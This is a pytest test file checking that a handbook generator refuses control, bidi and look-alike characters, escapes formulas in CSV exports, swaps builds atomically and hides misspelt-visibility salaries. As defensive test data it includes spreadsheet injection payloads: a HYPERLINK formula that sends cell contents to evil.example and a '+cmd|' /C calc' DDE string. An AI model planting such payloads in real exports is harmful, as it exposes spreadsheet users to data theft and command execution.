"""Issue 19's rows on text, exports, `make build`'s swap, the preview's watch and misspelt
visibility: one test per row (or parametrized case), each with its exact outcome.

- control characters and blank letters in titles are refused, and the look-alike they make is
  caught; real text that needs joiners (Persian, Devanagari, emoji) is accepted;
- UAX #9's bidirectional formatting characters are refused in every field, and the same text
  rules hold for catalog names and settings;
- every cell of the CSV exports, headers included, is safe to open in a spreadsheet;
- `make build` swaps by rename, so a kill at any step leaves a whole site; a full disk or a
  read-only folder is one line;
- `mkdocs serve` keeps watching roles_data/ when it is removed and put back;
- a band whose visibility is misspelt shows no figure in the public preview.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import tempfile
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from handbook import names, publish
from handbook.audience import INTERNAL_NOTE
from handbook.validation import read_handbook
from tests.conftest import FIXTURES, Check, edit
from tests.hostile_corpus import (
    LOCATED,
    TEXT_RULE_PAYLOADS,
    HostileHandbook,
    payloads,
    run_check,
)
from tests.site import ROOT, build, make_project, parse
from tests.test_hostile import (
    _make_build,
    _make_project,
    _snapshot,
    assert_no_traceback,
    leaks,
    problem_lines,
)
from tests.test_serve import Server
from tests.test_serve import server as server  # the fixture

AGENT = "roles_data/roles/agent.yml"
LEADER = "roles_data/roles/team-leader.yml"
NO_PROBLEMS = (0, ["roles_data: 3 roles checked, no problems"])
BLANK = "contains characters that look like a space but are not one"
BIDI = (
    "contains bidirectional formatting characters (U+202E RIGHT-TO-LEFT OVERRIDE), which show "
    "the text in another order than it is read: delete them"
)


def _quoted(text: str) -> str:
    """`text` as a YAML double-quoted scalar (characters outside ASCII written as they are)."""
    return json.dumps(text, ensure_ascii=False)


def _aliases(data: Path, agent: str, leader: str | None = None) -> None:
    """Replace the agent's second alias (and the team leader's alias) with YAML text."""
    edit(
        data / "roles" / "agent.yml",
        "aliases: [CSR, Customer Service Representative]",
        f"aliases: [CSR, {agent}]",
    )
    if leader is not None:
        edit(data / "roles" / "team-leader.yml", "aliases: [Team Lead]", f"aliases: [{leader}]")


# ---- Row: a NUL or ESC in a title; U+3164 or U+2800 used as a space ----------------------------


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        pytest.param(
            '"Ag\\0ent"',
            [f"{AGENT}:1: title: 'Ag\\x00ent' contains control characters (U+0000): delete them"],
            id="nul",
        ),
        pytest.param(
            '"\\e[31mAgent\\e[0m"',
            [
                f"{AGENT}:1: title: '\\x1b[31mAgent\\x1b[0m' contains control characters "
                "(U+001B): delete them"
            ],
            id="esc",
        ),
        pytest.param(
            '"Agent\\x85One"',
            [
                f"{AGENT}:1: title: 'Agent\\x85One' contains control characters (U+0085): "
                "delete them"
            ],
            id="c1-next-line",
        ),
    ],
)
def test_control_characters_in_a_title_are_refused(
    data: Path, check: Check, title: str, expected: list[str]
) -> None:
    edit(data / "roles" / "agent.yml", "title: Agent", f"title: {title}")
    assert check() == (1, expected)


@pytest.mark.parametrize(
    ("blank", "label"),
    [
        pytest.param("\u3164", "U+3164 HANGUL FILLER", id="hangul-filler"),
        pytest.param("\u2800", "U+2800 BRAILLE PATTERN BLANK", id="braille-blank"),
        pytest.param("\uffa0", "U+FFA0 HALFWIDTH HANGUL FILLER", id="halfwidth-filler"),
    ],
)
def test_a_blank_letter_used_as_a_space_is_refused_and_its_look_alike_caught(
    data: Path, check: Check, blank: str, label: str
) -> None:
    alias = f"Team{blank}Lead"
    _aliases(data, _quoted(alias))
    assert check() == (
        1,
        [
            f"{AGENT}:2: aliases[1]: {alias!r} {BLANK} ({label}): type a space instead, or "
            "delete them",
            f"{AGENT}:2: aliases[1]: {alias!r} is also the alias of 'team-leader' ('Team Lead'); "
            "search would be ambiguous",
            f"{LEADER}:2: aliases[0]: 'Team Lead' is also the alias of 'agent' ({alias!r}); "
            "search would be ambiguous",
        ],
    )


@pytest.mark.build
def test_control_characters_and_blank_letters_fail_the_strict_build(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project", data=FIXTURES / "valid")
    data = project / "roles_data"
    edit(data / "roles" / "agent.yml", "title: Agent", 'title: "Ag\\0ent\\e[2J"')
    edit(data / "roles" / "director.yml", "title: Director", 'title: "Director\u3164General"')
    result = build(project, tmp_path / "site", data=data)
    assert result.code != 0
    assert_no_traceback(result.log)
    assert problem_lines(result.log) == [
        f"{AGENT}:1: title: 'Ag\\x00ent\\x1b[2J' contains control characters (U+0000, U+001B): "
        "delete them",
        "roles_data/roles/director.yml:1: title: 'Director\u3164General' "
        f"{BLANK} (U+3164 HANGUL FILLER): type a space instead, or delete them",
    ]


# ---- Row: joiners that real text needs ----------------------------------------------------------


@pytest.mark.parametrize(
    "title",
    [
        pytest.param("Agent 👩\u200d💻", id="emoji-zwj"),
        pytest.param("Agent 👩🏽\u200d💻", id="emoji-skin-tone-zwj"),
        pytest.param("کارشناس\u200cارشد", id="persian-zwnj"),
        pytest.param("क्\u200dषेत्र अधिकारी", id="devanagari-virama-zwj"),
        pytest.param("נציג שירות\u200f CSR", id="hebrew-rlm"),
        pytest.param("⠁⠛⠑⠝⠞\u2800⠕⠝⠑", id="braille-space-in-braille"),
    ],
)
def test_text_that_needs_joiners_is_accepted(data: Path, check: Check, title: str) -> None:
    edit(data / "roles" / "agent.yml", "title: Agent", f"title: {_quoted(title)}")
    assert check() == NO_PROBLEMS
    assert read_handbook(data).handbook.roles["agent"].title == title


@pytest.mark.parametrize(
    ("agent", "leader", "expected"),
    [
        pytest.param(
            "کارشناسارشد",
            "کارشناس\u200cارشد",
            [
                f"{AGENT}:2: aliases[1]: 'کارشناسارشد' is also the alias of 'team-leader' "
                "('کارشناس\\u200cارشد'); search would be ambiguous",
                f"{LEADER}:2: aliases[0]: 'کارشناس\\u200cارشد' is also the alias of 'agent' "
                "('کارشناسارشد'); search would be ambiguous",
            ],
            id="persian-with-and-without-zwnj",
        ),
        pytest.param(
            "Agent 👩💻",
            "Agent 👩\u200d💻",
            [
                f"{AGENT}:2: aliases[1]: 'Agent 👩💻' is also the alias of 'team-leader' "
                "('Agent 👩\\u200d💻'); search would be ambiguous",
                f"{LEADER}:2: aliases[0]: 'Agent 👩\\u200d💻' is also the alias of 'agent' "
                "('Agent 👩💻'); search would be ambiguous",
            ],
            id="emoji-with-and-without-zwj",
        ),
        pytest.param(
            "POC",
            "РОС",  # Cyrillic: a whole-script look-alike (UTS #39 confusables)
            [
                f"{AGENT}:2: aliases[1]: 'POC' is also the alias of 'team-leader' ('РОС'); "
                "search would be ambiguous",
                f"{LEADER}:2: aliases[0]: 'РОС' is also the alias of 'agent' ('POC'); search "
                "would be ambiguous",
            ],
            id="cyrillic-whole-word",
        ),
        pytest.param(
            "Support \u2013 Tier",
            "Support - Tier",
            [
                f"{AGENT}:2: aliases[1]: 'Support \u2013 Tier' is also the alias of 'team-leader' "
                "('Support - Tier'); search would be ambiguous",
                f"{LEADER}:2: aliases[0]: 'Support - Tier' is also the alias of 'agent' "
                "('Support \u2013 Tier'); search would be ambiguous",
            ],
            id="en-dash",
        ),
        pytest.param(
            "Te\u200dam Lead",
            None,
            [
                f"{AGENT}:2: aliases[1]: 'Te\\u200dam Lead' contains invisible characters "
                "(U+200D ZERO WIDTH JOINER): delete them",
                f"{AGENT}:2: aliases[1]: 'Te\\u200dam Lead' is also the alias of 'team-leader' "
                "('Team Lead'); search would be ambiguous",
                f"{LEADER}:2: aliases[0]: 'Team Lead' is also the alias of 'agent' "
                "('Te\\u200dam Lead'); search would be ambiguous",
            ],
            id="joiner-between-latin-letters",
        ),
    ],
)
def test_joiners_kept_but_look_alike_names_still_caught(
    data: Path, check: Check, agent: str, leader: str | None, expected: list[str]
) -> None:
    _aliases(data, _quoted(agent), _quoted(leader) if leader else None)
    assert check() == (1, expected)


@pytest.mark.build
def test_titles_with_joiners_build_and_show_as_written(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project", data=FIXTURES / "valid")
    data = project / "roles_data"
    emoji, persian = "Agent 👩\u200d💻", "کارشناس\u200cارشد"
    edit(data / "roles" / "agent.yml", "title: Agent", f"title: {emoji}")
    edit(data / "roles" / "team-leader.yml", "title: Team Leader", f"title: {persian}")
    result = build(project, tmp_path / "site", data=data)
    assert result.code == 0, result.log
    roles = tmp_path / "site" / "roles" / "operations"
    assert emoji in parse(roles / "agent" / "index.html").visible_text
    assert persian in parse(roles / "team-leader" / "index.html").visible_text
    rows = list(csv.reader(io.StringIO((tmp_path / "site" / "roles.csv").read_text("utf-8"))))
    assert {emoji, persian} <= {row[1] for row in rows}


# ---- Row: U+202E in a department name; the same rules for catalog names and settings -------------


@pytest.mark.parametrize(
    ("file", "old", "new", "expected"),
    [
        pytest.param(
            "departments.yml",
            "name: Operations",
            'name: "Oper\\u202Eations"',
            f"roles_data/departments.yml:2: [0].name: 'Oper\\u202eations' {BIDI}",
            id="department-name",
        ),
        pytest.param(
            "levels.yml",
            "name: Lead",
            'name: "Lead\\u202E"',
            f"roles_data/levels.yml:6: [1].name: 'Lead\\u202e' {BIDI}",
            id="level-name",
        ),
        pytest.param(
            "skills.yml",
            "name: Leadership",
            'name: "\\u202ELeadership"',
            f"roles_data/skills.yml:5: [1].name: '\\u202eLeadership' {BIDI}",
            id="skill-name",
        ),
        pytest.param(
            "kpis.yml",
            "name: Customer satisfaction",
            'name: "Customer \\u202Esatisfaction"',
            f"roles_data/kpis.yml:2: [0].name: 'Customer \\u202esatisfaction' {BIDI}",
            id="kpi-name",
        ),
        pytest.param(
            "processes.yml",
            "name: Escalations",
            'name: "Escalations\\u202E"',
            f"roles_data/processes.yml:2: [0].name: 'Escalations\\u202e' {BIDI}",
            id="process-name",
        ),
        pytest.param(
            "handbook.yml",
            "organisation: Fixture Contact Center",
            'organisation: "Fixture \\u202EContact Center"',
            f"roles_data/handbook.yml:1: organisation: 'Fixture \\u202eContact Center' {BIDI}",
            id="organisation",
        ),
        pytest.param(
            "departments.yml",
            "description: Takes the calls.",
            'description: "Takes the \\u202Ecalls."',
            f"roles_data/departments.yml:3: [0].description: 'Takes the \\u202ecalls.' {BIDI}",
            id="catalog-description",
        ),
        pytest.param(
            "roles/agent.yml",
            "summary: Answers calls.",
            'summary: "Answers \\u202Ecalls."',
            f"{AGENT}:6: summary: 'Answers \\u202ecalls.' {BIDI}",
            id="role-summary",
        ),
        pytest.param(
            "roles/agent.yml",
            "target: 6 minutes",
            'target: "\\u202E6 minutes"',
            f"{AGENT}:18: kpis[0].target: '\\u202e6 minutes' {BIDI}",
            id="kpi-target",
        ),
        pytest.param(
            "roles/agent.yml",
            "summary: Answers calls.",
            'summary: "Answers \\u2067calls\\u2069 \\u202Aquickly\\u202C."',
            f"{AGENT}:6: summary: 'Answers \\u2067calls\\u2069 \\u202aquickly\\u202c.' contains "
            "bidirectional formatting characters (U+2067 RIGHT-TO-LEFT ISOLATE, U+2069 POP "
            "DIRECTIONAL ISOLATE, U+202A LEFT-TO-RIGHT EMBEDDING, U+202C POP DIRECTIONAL "
            "FORMATTING), which show the text in another order than it is read: delete them",
            id="isolates-and-embeddings",
        ),
    ],
)
def test_bidirectional_overrides_are_refused_in_every_field(
    data: Path, check: Check, file: str, old: str, new: str, expected: str
) -> None:
    edit(data / file, old, new)
    assert check() == (1, [expected])


@pytest.mark.parametrize(
    ("file", "old", "new", "expected"),
    [
        pytest.param(
            "skills.yml",
            "name: Communication",
            'name: "Commu\\enication"',
            "roles_data/skills.yml:2: [0].name: 'Commu\\x1bnication' contains control characters "
            "(U+001B): delete them",
            id="control-in-skill-name",
        ),
        pytest.param(
            "handbook.yml",
            "organisation: Fixture Contact Center",
            'organisation: "Fixture\u3164Contact Center"',
            "roles_data/handbook.yml:1: organisation: 'Fixture\u3164Contact Center' "
            f"{BLANK} (U+3164 HANGUL FILLER): type a space instead, or delete them",
            id="blank-in-organisation",
        ),
        pytest.param(
            "levels.yml",
            "name: Entry",
            'name: "En\\u200Btry"',
            "roles_data/levels.yml:2: [0].name: 'En\\u200btry' contains invisible characters "
            "(U+200B ZERO WIDTH SPACE): delete them",
            id="invisible-in-level-name",
        ),
        pytest.param(
            "kpis.yml",
            "name: Customer satisfaction",
            "name: Сustomer satisfaction",
            "roles_data/kpis.yml:2: [0].name: 'Сustomer satisfaction' mixes Cyrillic and Latin "
            "letters in 'Сustomer' ('С' only looks like a letter of the other script): retype "
            "the word in one script",
            id="mixed-scripts-in-kpi-name",
        ),
        pytest.param(
            "levels.yml",
            "name: Lead",
            "name: ＥＮＴＲＹ",
            "roles_data/levels.yml:6: [1].name: 'ＥＮＴＲＹ' is also the name of level 'entry' "
            "('Entry'); readers could not tell them apart: rename one",
            id="look-alike-level-names",
        ),
        pytest.param(
            "handbook.yml",
            "currency: USD",
            'currency: USD\nabout: "About \\0us"',
            "roles_data/handbook.yml:3: about: 'About \\x00us' contains control characters "
            "(U+0000): delete them",
            id="control-in-about",
        ),
    ],
)
def test_catalog_names_and_settings_follow_the_same_text_rules(
    data: Path, check: Check, file: str, old: str, new: str, expected: str
) -> None:
    edit(data / file, old, new)
    assert check() == (1, [expected])


def test_the_refused_bidi_and_control_characters_are_unicodes_own_sets() -> None:
    """Every UAX #9 explicit formatting character (by its bidi class in the Unicode database)
    and every control character but tab and line breaks is refused; no other format character
    is reported as bidirectional."""
    explicit, controls, other_format = [], [], []
    for code in range(0x110000):
        char = chr(code)
        category = unicodedata.category(char)
        if unicodedata.bidirectional(char) in names.EXPLICIT_BIDI_CLASSES:
            explicit.append(char)
        elif category == "Cc" and char not in "\t\n\r":
            controls.append(char)
        elif category == "Cf":
            other_format.append(char)
    assert len(explicit) == 9
    for char in explicit:
        assert [r.kind for r in names.text_rules(f"a{char}b")] == ["bidi"], ascii(char)
    for char in controls:
        assert [r.kind for r in names.text_rules(f"a{char}b")] == ["control"], ascii(char)
    for char in other_format:
        assert "bidi" not in [r.kind for r in names.text_rules(f"a{char}b", line=True)]


# ---- Row: a skill named =HYPERLINK(...) --------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
FORMULA_START = re.compile(r"^[ \u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")


@pytest.mark.build
def test_every_exported_cell_headers_included_is_safe_in_a_spreadsheet(tmp_path: Path) -> None:
    project = make_project(tmp_path / "project", data=FIXTURES / "valid")
    data = project / "roles_data"
    edit(data / "skills.yml", "name: Communication", f"name: {json.dumps(HYPERLINK)}")
    edit(data / "skills.yml", "name: Leadership", "name: \"+cmd|' /C calc'!A0\"")
    edit(data / "roles" / "agent.yml", "title: Agent", 'title: "@SUM(1+1)"')
    edit(data / "roles" / "agent.yml", "[CSR, Customer Service Representative]", '["-2+3", CSR]')
    edit(data / "departments.yml", "name: Operations", 'name: "＝1+1"')
    edit(data / "levels.yml", "name: Entry", 'name: "-Entry"')
    result = build(project, tmp_path / "site", data=data)
    assert result.code == 0, result.log
    site = tmp_path / "site"
    header = next(csv.reader(io.StringIO((site / "skills.csv").read_text("utf-8"))))
    assert header == ["id", "title", "'" + HYPERLINK, "'+cmd|' /C calc'!A0"]
    cells = []
    for name in ("skills.csv", "roles.csv"):
        cells += [
            c for row in csv.reader(io.StringIO((site / name).read_text("utf-8"))) for c in row
        ]
    assert "'@SUM(1+1)" in cells and "'＝1+1" in cells and "'-Entry" in cells
    assert "'-2+3; CSR" in cells  # a cell of several values starts with the first
    assert [c for c in cells if FORMULA_START.match(c)] == []
    # roles.json is data for programs, not a spreadsheet: it keeps the names as written.
    roles = json.loads((site / "roles.json").read_text("utf-8"))
    assert roles["roles"][0]["skills"][0]["name"] == HYPERLINK


# ---- Row: `make build` killed during its swap; a full disk; a read-only folder -----------------

_KILLER = """
import os, signal, sys
from pathlib import Path
from handbook import publish

limit, calls = int(sys.argv[1]), [0]

def killing(call):
    def counted(*args, **kwargs):
        calls[0] += 1
        if calls[0] > limit:
            os.kill(os.getpid(), signal.SIGKILL)
        return call(*args, **kwargs)
    return counted

for name in ("rename", "unlink", "rmdir", "replace"):
    setattr(os, name, killing(getattr(os, name)))
publish.swap(Path("site.tmp"), Path("site"))
print("done", calls[0])
"""


def _fake_site(folder: Path, label: str, files: int = 40) -> dict[str, bytes]:
    for i in range(files):
        page = folder / f"section-{i % 4}" / f"page-{i}" / "index.html"
        page.parent.mkdir(parents=True, exist_ok=True)
        page.write_text(f"<p>{label} {i}</p>", encoding="utf-8")
    return _snapshot(folder)


def test_a_build_killed_at_any_step_of_its_swap_leaves_a_whole_site(tmp_path: Path) -> None:
    """SIGKILL after each file-system call of the swap (the renames, then every unlink and
    rmdir of removing the old site): a whole site is always in place (or, between the two
    renames, aside), and the next run's `recover` leaves exactly one whole site at site/."""
    step, outcomes = 0, set()
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    while True:
        work = tmp_path / f"kill-{step}"
        work.mkdir()
        old = _fake_site(work / "site", "old", files=12)
        new = _fake_site(work / "site.tmp", "new", files=12)
        run = subprocess.run(
            [sys.executable, "-c", _KILLER, str(step)],
            cwd=work,
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        site, aside = work / "site", work / "site.old"
        if run.returncode == 0:
            assert (
                _snapshot(site) == new and not aside.exists() and not (work / "site.tmp").exists()
            )
            break
        assert run.returncode == -9, run.stderr
        if site.exists():
            assert _snapshot(site) in (old, new)
        else:  # killed between the two renames: the old site is aside, the new one beside it
            assert _snapshot(aside) == old and _snapshot(work / "site.tmp") == new
        publish.recover(site)
        after = _snapshot(site)
        assert after in (old, new) and not aside.exists()
        outcomes.add("new" if after == new else "old")
        step += 1
    assert step > 25 and outcomes == {"old", "new"}


@pytest.mark.build
def test_make_build_puts_back_a_site_an_interrupted_swap_left_aside(tmp_path: Path) -> None:
    project = _make_project(tmp_path)
    old = _fake_site(project / "site.old", "old", files=3)
    (project / "site.tmp").mkdir()
    (project / "site.tmp" / "half.html").write_text("half", encoding="utf-8")
    # The build fails: the site moved back is the one left.
    edit(project / "roles_data" / "roles" / "agent.yml", "level: entry", "level: entri")
    failed = _make_build(project)
    assert failed.returncode != 0
    assert_no_traceback(failed.stdout + failed.stderr)
    assert "site: moved site.old/ back to site/: an interrupted build had moved it aside" in (
        failed.stderr.splitlines()
    )
    assert _snapshot(project / "site") == old
    assert sorted(p.name for p in project.iterdir() if p.name.startswith("site")) == ["site"]


def _limit_file_size() -> None:  # pragma: no cover - runs in the child
    resource.setrlimit(resource.RLIMIT_FSIZE, (64_000, 64_000))


@pytest.mark.build
def test_make_build_that_cannot_write_its_files_is_one_line(tmp_path: Path) -> None:
    """No room for the site's files (here: a file size limit, as a full disk refuses a write)."""
    project = _make_project(tmp_path)
    old = _fake_site(project / "site", "old", files=3)
    run = _make_build(project, preexec_fn=_limit_file_size)
    assert run.returncode != 0
    output = run.stdout + run.stderr
    assert "Traceback" not in output and "OSError" not in output, output
    lines = [line for line in run.stderr.splitlines() if line.startswith("site: ")]
    assert len(lines) == 1, output
    assert re.fullmatch(
        r"site: the build could not write the new site: File too large: site\.tmp/\S+",
        lines[0],
    ), lines
    own = [line for line in run.stderr.splitlines() if not line.startswith("make: ")]
    assert own[-1] == "The build failed; site/ is unchanged"
    assert _snapshot(project / "site") == old
    assert not (project / "site.tmp").exists()


@pytest.fixture
def read_only(tmp_path: Path) -> Iterator[Path]:
    """A project folder nothing can be written in (for root too: the immutable attribute)."""
    project = _make_project(tmp_path)
    _fake_site(project / "site", "old", files=3)
    if os.geteuid() != 0:
        project.chmod(0o555)
        undo = ["chmod", "755", str(project)]
    else:
        made = subprocess.run(["chattr", "+i", str(project)], capture_output=True, check=False)
        if made.returncode != 0:
            pytest.skip("cannot make a folder read-only for root here (chattr +i refused)")
        undo = ["chattr", "-i", str(project)]
    try:
        yield project
    finally:
        subprocess.run(undo, check=True)


@pytest.mark.build
def test_make_build_in_a_read_only_folder_is_one_line(read_only: Path) -> None:
    before = _snapshot(read_only / "site")
    run = _make_build(read_only)
    assert run.returncode != 0
    assert "Traceback" not in run.stdout + run.stderr
    own = [line for line in run.stderr.splitlines() if not line.startswith("make: ")]
    assert len(own) == 1, run.stderr
    assert re.fullmatch(
        r"site: cannot write the new site: (Permission denied|Operation not permitted|"
        r"Read-only file system): site\.tmp",
        own[0],
    ), own
    assert _snapshot(read_only / "site") == before


# ---- Row: during `make serve`, roles_data/ removed and restored ---------------------------------


@pytest.mark.build
def test_serve_keeps_watching_roles_data_when_it_is_removed_and_restored(
    server: Server, tmp_path: Path
) -> None:
    data = server.project / "roles_data"
    page = "roles/operations/team-leader/"
    builds = server.builds()
    shutil.move(data, tmp_path / "aside")
    server.wait_for("a rebuild without the data", lambda: server.builds() > builds)
    assert "HANDBOOK_DATA" in server.log and "does not exist" in server.log
    builds = server.builds()
    shutil.move(tmp_path / "aside", data)
    server.wait_for(
        "a rebuild with the data back",
        lambda: server.builds() > builds and "Leads a team of agents." in server.get(page),
    )
    # The folder put back is watched: a save in it shows without touching docs/.
    edit(data / "roles" / "team-leader.yml", "Leads a team of agents.", "Guides a pod of agents.")
    server.wait_for("the edit", lambda: "Guides a pod of agents." in server.get(page))
    assert "Traceback" not in server.log
    assert server.process.poll() is None


# ---- Row: `visibility: INTERNAL` (misspelt) and `max: 81234.5` ---------------------------------


def _misspelt_band(data: Path) -> None:
    edit(
        data / "roles" / "team-leader.yml",
        "  min: 38000\n  max: 44000\n  source: Survey\n",
        "  min: 71234\n  max: 81234.5\n  source: Survey\n  visibility: INTERNAL\n",
    )


@pytest.mark.build
def test_a_band_with_misspelt_visibility_shows_no_figure_in_the_public_preview(
    tmp_path: Path,
) -> None:
    project = make_project(tmp_path / "project", data=FIXTURES / "valid")
    _misspelt_band(project / "roles_data")
    preview = build(project, tmp_path / "site", data=project / "roles_data", strict=False)
    assert preview.code == 0, preview.log
    assert_no_traceback(preview.log)
    assert leaks(preview.site) == []  # pages, search index, exports
    page = parse(preview.site / "roles" / "operations" / "team-leader" / "index.html")
    assert "This role has 2 problems to fix" in page.visible_text
    assert f"{LEADER}:21: salary: {INTERNAL_NOTE}" in page.visible_text
    assert "81234" not in page.visible_text
    assert problem_lines(preview.log) == [
        f"{LEADER}:21: salary: {INTERNAL_NOTE}",
        f"{LEADER}:23: salary: {INTERNAL_NOTE}",
    ]


def test_check_shows_the_writer_the_misspelt_bands_problems(data: Path, check: Check) -> None:
    _misspelt_band(data)
    assert check() == (
        1,
        [
            f"{LEADER}:21: salary.max: expected a whole number, got 81234.5",
            f"{LEADER}:23: salary.visibility: expected one of 'public' or 'internal', got "
            "'INTERNAL'",
        ],
    )


# ---- The generated corpus: settings and catalog names -------------------------------------------

# Messages the text rules give (the corpus's other refusals are tested in tests/test_hostile.py).
_ELSEWHERE = re.compile(
    r"mixes \w+ and \w+ letters|placeholder left to fill in|is also the (?:title|alias) of|"
    r"must not be empty|characters long, more than|is also the name of|contains invisible"
)
_RULES = re.compile(
    r"contains (?:control|bidirectional formatting) characters|look like a space but are not one"
)


def _breaks(text: str) -> set[str]:
    """What the text rules must say of `text` in any field, found from the Unicode database
    independently of the code under test (UAX #9's explicit formatting classes)."""
    found = set()
    for char in text.strip():
        if unicodedata.category(char) == "Cc" and char not in "\t\n\r":
            found.add("contains control characters")
        if unicodedata.bidirectional(char) in _EXPLICIT:
            found.add("contains bidirectional formatting characters")
    return found


_EXPLICIT = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}


@settings(
    max_examples=40,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.lists(st.one_of(payloads(long=False), st.sampled_from(TEXT_RULE_PAYLOADS)), min_size=1))
def test_generated_settings_and_catalog_names_read_back_or_are_refused(texts: list[str]) -> None:
    with tempfile.TemporaryDirectory(prefix="hostile-text-") as tmp:
        handbook = HostileHandbook(texts)
        handbook.write(Path(tmp))
        code, lines, err = run_check(Path(tmp))
        assert_no_traceback("\n".join(lines) + err)
        if code != 0:
            for line in lines:
                assert LOCATED.match(line), line
                assert _RULES.search(line) or _ELSEWHERE.search(line), line
        # Every value that breaks a rule is named, in its file and field, for that rule.
        for place, (file, field, _kind) in handbook.fields.items():
            expected = _breaks(handbook.texts[place])
            about = [line for line in lines if line.startswith(file) and f": {field}: " in line]
            assert {m for m in expected if any(m in line for line in about)} == expected, place
        if code != 0:
            return
        assert lines == NO_PROBLEMS[1]
        read = read_handbook(Path(tmp) / "roles_data").handbook
        shown = handbook.texts
        assert read.settings.organisation == shown["organisation"].strip()
        assert read.settings.about == shown["about"].strip()
        assert read.settings.notes.home == [shown["notes.home[0]"].strip()]
        assert read.settings.featured.comparisons[0].note == (
            shown["featured.comparisons[0].note"].strip()
        )
        for catalog in ("departments", "levels", "skills", "kpis", "processes"):
            for record_id, record in getattr(read, catalog).items():
                assert record.name == shown[f"{catalog}.{record_id}.name"].strip()
